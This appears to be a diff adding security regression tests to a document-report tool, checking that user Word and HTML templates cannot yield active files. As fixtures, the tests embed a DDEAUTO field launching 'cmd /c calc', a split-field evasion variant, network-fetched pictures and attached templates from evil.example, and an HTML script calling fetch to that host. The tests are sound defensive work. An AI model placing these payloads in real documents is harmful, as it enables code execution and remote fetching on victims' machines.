@@ -1159,3 +1159,89 @@ def test_a_plan_folder_with_its_own_git_settings_runs_no_command_of_theirs(tmp_p
     proc = kh("diff", "HEAD:other.yaml", "other.yaml", "--lang", "en", cwd=other)
     assert proc.returncode == 2
     assert not trace.exists(), trace.read_text()
+
+
+# ---------------------------------------------------------------- what a template folder makes
+
+
+def _word_template(tmp_path: Path, document=None, extra: dict[str, bytes] | None = None, settings=None) -> Path:
+    """A copy of the built-in report.docx in a user's template folder, its parts changed."""
+    folder = tmp_path / "mau"
+    folder.mkdir(parents=True, exist_ok=True)
+    with zipfile.ZipFile(ROOT / "templates" / "report.docx") as src, \
+            zipfile.ZipFile(folder / "report.docx", "w", zipfile.ZIP_DEFLATED) as dst:
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename == "word/document.xml" and document:
+                data = document(data)
+            if item.filename == "word/settings.xml" and settings:
+                data = settings(data)
+            dst.writestr(item, data)
+        for name, data in (extra or {}).items():
+            dst.writestr(name, data)
+    return folder
+
+
+@pytest.mark.parametrize("shape", ["dde", "split-field", "includepicture", "attached-template"])
+def test_a_word_template_from_outside_cannot_make_a_document_that_acts_on_word(tmp_path, shape):
+    """A user's Word template with a DDE field (runs a program when the document opens), a field
+    split over runs, a picture fetched from the network, a remote attached template or macros:
+    the report made from it carried them all (exit 0). Now it is refused and nothing written; a
+    copy of the built-in template in the same folder still makes the report."""
+    body = {
+        "dde": (b'<w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"><w:r><w:t>x</w:t></w:r>'
+                b'</w:fldSimple></w:p>'),
+        "split-field": (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
+                        b'<w:r><w:instrText>EAUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
+                        b'</w:r></w:p>'),
+        "includepicture": (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE '
+                           b'"http://evil.example/t.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
+                           b'</w:r></w:p>'),
+    }.get(shape)
+    extra, settings = {}, None
+    if shape == "attached-template":
+        settings = lambda d: d.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdEvil"/><w:zoom', 1)  # noqa: E731
+        extra = {"word/_rels/settings.xml.rels": (
+            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxml'
+            b'formats.org/package/2006/relationships"><Relationship Id="rIdEvil" Type="http://schemas.openxml'
+            b'formats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
+            b'TargetMode="External"/></Relationships>')}
+    if shape == "macros":
+        extra = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really"}
+    folder = _word_template(tmp_path, (lambda d: d.replace(b"<w:body>", b"<w:body>" + body, 1)) if body else None,
+                            extra, settings)
+    out = tmp_path / "r.docx"
+    proc = kh("report", "-p", DEMO, "--period", "Q2", "-f", "docx", "-o", out, "--templates", folder)
+    assert_no_crash(proc, codes=(1,))
+    assert "[template-active]" in text_of(proc) or "không ghi" in text_of(proc), text_of(proc)
+    assert not out.exists()
+    plain = _word_template(tmp_path / "plain")
+    proc = kh("report", "-p", DEMO, "--period", "Q2", "-f", "docx", "-o", out, "--templates", plain)
+    assert_no_crash(proc, codes=(0,))
+
+
+def test_a_page_from_a_users_html_template_is_locked_as_the_built_in_ones(tmp_path):
+    """A user's report.html.j2 may hold a script and leave out the built-in pages' policy: the page
+    it made ran the script. Now the policy is set first (after the doctype), before anything of the
+    template's, so no script runs and nothing is fetched."""
+    folder = tmp_path / "mau"
+    write(folder / "report.html.j2", '<!DOCTYPE html>\n<html><body><script>fetch("http://evil.example/")</script>'
+                                     "{{ doc.summary }}</body></html>")
+    out = tmp_path / "r.html"
+    proc = kh("report", "-p", DEMO, "--period", "Q2", "-f", "html", "-o", out, "--templates", folder)
+    assert_no_crash(proc, codes=(0,))
+    page = out.read_text(encoding="utf-8")
+    assert page.startswith("<!DOCTYPE html><meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';")
+    assert page.index("Content-Security-Policy") < page.index("<script>")
+
+
+def test_macros_in_a_word_template_never_reach_the_document(tmp_path):
+    """A template carrying a macro project: the document made from it holds none (a .docx runs no
+    macro, and the part is not carried)."""
+    folder = _word_template(tmp_path, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really"})
+    out = tmp_path / "r.docx"
+    proc = kh("report", "-p", DEMO, "--period", "Q2", "-f", "docx", "-o", out, "--templates", folder)
+    assert_no_crash(proc, codes=(0, 1))
+    if out.exists():
+        with zipfile.ZipFile(out) as z:
+            assert not [n for n in z.namelist() if "vba" in n.lower()]
